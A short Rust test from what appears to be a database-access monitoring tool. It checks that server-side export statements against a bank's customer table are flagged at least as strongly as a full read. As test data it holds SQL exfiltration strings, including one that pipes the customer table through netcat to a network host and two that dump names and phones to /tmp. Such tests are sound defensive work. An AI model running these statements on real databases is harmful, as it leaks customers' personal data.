//! The rows go to a file or program of the server and no client gets any.

use crate::company::{Company, ann, takes_all};

#[test]
fn a_copy_on_the_server_is_no_quieter() {
    let bank = Company::bank();
    let open = bank.sees(&[takes_all("10:00")]);
    for statement in [
        "COPY crm.customers TO PROGRAM 'nc 10.0.0.66 99'",
        "COPY (SELECT name, phone FROM crm.customers) TO '/tmp/x'",
        "SELECT name, phone INTO OUTFILE '/tmp/x' FROM crm.customers",
    ] {
        bank.sees(&[ann("10:00").set("statement", statement)]).no_quieter_than(&open);
    }
}
